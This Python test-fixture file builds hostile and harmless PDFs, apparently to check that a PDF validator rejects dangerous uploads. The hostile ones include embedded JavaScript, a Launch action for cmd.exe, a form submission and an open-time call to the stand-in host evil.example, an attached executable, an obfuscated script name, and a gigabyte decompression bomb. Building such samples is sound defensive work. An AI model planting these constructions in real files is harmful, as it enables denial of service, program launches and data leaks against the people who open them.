"""PDFs that do more than show pages, and some that only look so."""

import io
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name


def script() -> Dictionary:
    """An action that runs a script; each document needs its own."""
    return Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def made(change=None, *, packed: bool = False, **saving) -> bytes:
    """A PDF of one page, changed; `packed`: its objects are in compressed streams."""
    document = pikepdf.new()
    document.add_blank_page()
    if change is not None:
        change(document)
    mode = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable
    written = io.BytesIO()
    document.save(written, object_stream_mode=mode, **saving)
    return written.getvalue()


def opens_with(action):
    def change(document):
        document.Root.OpenAction = action

    return change


def named_script(document):
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", document.make_indirect(script())])))


def link_to(action):
    def change(document):
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)
        document.pages[0].Annots = Array([document.make_indirect(link)])

    return change


def acts_on_opening_a_page(document):
    document.pages[0].AA = Dictionary(O=Dictionary(S=Name.GoTo, D="elsewhere"))


def with_a_file(document):
    document.attachments["run.exe"] = b"MZ"


def form_of_xml(document):
    document.Root.AcroForm = Dictionary(XFA=document.make_stream(b"<xdp/>"), Fields=[])


def shows_first_page(document):
    document.Root.OpenAction = Array([document.pages[0].obj, Name.Fit])


def goes_to_first_page(document):
    document.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([document.pages[0].obj, Name.Fit]))


def bomb() -> bytes:
    """Two kilobytes that unpack to a gigabyte, with a script at their end: an object stream packed twice."""
    packer = zlib.compressobj(9)
    once = packer.compress(b"4 0 ") + b"".join(packer.compress(b" " * 2**20) for _mega in range(1024))
    once += packer.compress(b"<</S/JavaScript/JS(x)>>") + packer.flush()
    twice = zlib.compress(once, 9)
    parts = {
        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        2: b"<</Type/Pages/Kids[]/Count 0>>",
        3: b"<</Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]/Length %d>>stream\n%s\nendstream"
        % (len(twice), twice),
    }
    written, offsets = b"%PDF-1.5\n", {}
    for number, part in parts.items():
        offsets[number] = len(written)
        written += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    offsets[5] = len(written)

    def entry(kind: int, where: int) -> bytes:
        return bytes([kind]) + where.to_bytes(4, "big") + b"\0"

    table = entry(0, 0) + b"".join(entry(1, offsets[n]) for n in (1, 2, 3)) + entry(2, 3) + entry(1, offsets[5])
    head = b"<</Type/XRef/Size 6/W[1 4 1]/Root 1 0 R/Length %d>>" % len(table)
    return written + b"5 0 obj\n%sstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (head, table, offsets[5])


# What is wrong with it → the file, and words of the message.
HOSTILE = {
    "a script when it is opened": (made(opens_with(script())), "contains a script"),
    "a script among its names": (made(named_script), "contains a script"),
    "a script in packed objects": (made(named_script, packed=True), "contains a script"),
    "a link that starts a program": (made(link_to(Dictionary(S=Name.Launch, F="cmd.exe"))), "starts other programs"),
    "starts a program, packed": (
        made(opens_with(Dictionary(S=Name.Launch, F="x")), packed=True),
        "starts other programs",
    ),
    "calls an address when it is opened": (
        made(opens_with(Dictionary(S=Name.URI, URI="https://evil.example"))),
        "does something by itself",
    ),
    "sends its form away": (made(link_to(Dictionary(S=Name.SubmitForm, F="https://evil.example"))), "by itself"),
    "acts when a page is shown": (made(acts_on_opening_a_page), "does something by itself"),
    "another file inside": (made(with_a_file), "carries other files"),
    "another file inside, packed": (made(with_a_file, packed=True), "carries other files"),
    "a form of XML": (made(form_of_xml), "contains a script"),
    "a password": (made(encryption=pikepdf.Encryption(user="secret", owner="secret")), "protected by a password"),
    "grows to a gigabyte": (bomb(), "is not a PDF file, or it is damaged"),
    "broken, with a hidden name": (b"%PDF-1.4\n1 0 obj<</#4aava#53cript (x)>>endobj\n%%EOF\n", "is damaged"),
    "broken, with packed objects": (b"%PDF-1.5\n1 0 obj<</Type/ObjStm>>stream\nx\nendstream\n%%EOF\n", "is damaged"),
}
HARMLESS = {
    "a page": made(),
    "packed objects": made(packed=True),
    "opened at its first page": made(shows_first_page),
    "going to its first page": made(goes_to_first_page),
    "a link to a website": made(link_to(Dictionary(S=Name.URI, URI="https://vendor.example"))),
    "locked against changes alone": made(encryption=pikepdf.Encryption(user="", owner="secret")),
    "broken, but nothing in it acts": b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",
}
